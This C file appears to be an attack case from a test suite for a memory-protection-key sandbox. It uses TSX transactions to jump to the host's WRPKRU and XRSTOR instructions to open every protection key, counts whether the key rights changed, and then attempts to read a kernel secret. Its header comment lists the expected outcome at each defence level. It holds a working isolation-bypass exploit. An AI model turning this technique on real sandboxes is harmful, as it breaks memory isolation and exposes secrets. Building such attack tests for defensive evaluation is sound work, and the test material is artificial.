/* none: succeeds: secret; keys: ends "read of kernel memory"; full: ends "read of kernel memory" */
#define ATTACK_OPENS
#include "attack.h"

#include <cpuid.h>

/*
 * A transaction (TSX) that jumps to each WRPKRU and XRSTOR of the host process, to open every key: whatever stops it behind that, the
 * check's `ud2` included, is no fault then but brings it back here. Are the keys as before? Without TSX there is only the reading.
 */
#define RTM (1u << 11)
#define TRIES 8

static uint32_t rights(void)
{
	uint32_t a, d;

	__asm__ volatile("rdpkru" : "=a"(a), "=d"(d) : "c"(0));
	return a;
}

static void jump(uintptr_t to, uint32_t eax)
{
	__asm__ volatile("mov %%rsp, %%r15\n\txbegin 1f\n\tmov %[eax], %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tlea %[image], %%rsp\n\t"
			 "jmp *%[to]\n1:\tmov %%r15, %%rsp"
			 : : [to] "r"(to), [eax] "r"(eax), [image] "m"(state_open), "D"(state_open)
			 : "rax", "rcx", "rdx", "r15", "memory", "cc");
}

int main(void)
{
	uint32_t a, b = 0, c, d;
	int moved = 0;

	__get_cpuid_count(7, 0, &a, &b, &c, &d);
	if (b & RTM && strcmp(told("level"), "none")) {
		const uint32_t had = rights();

		for (char *list = strdup(told("openers")), *rest, *one = strtok_r(list, ",", &rest); one; one = strtok_r(NULL, ",", &rest))
			for (int i = 0; i < TRIES; i++) {
				jump(strtoul(one, NULL, 16), i % 2 ? 0x200 : 0);
				moved += rights() != had;
			}
		say("%d times other rights\n", moved);
	}
	steal(at("kernel_secret"));
	return 0;
}
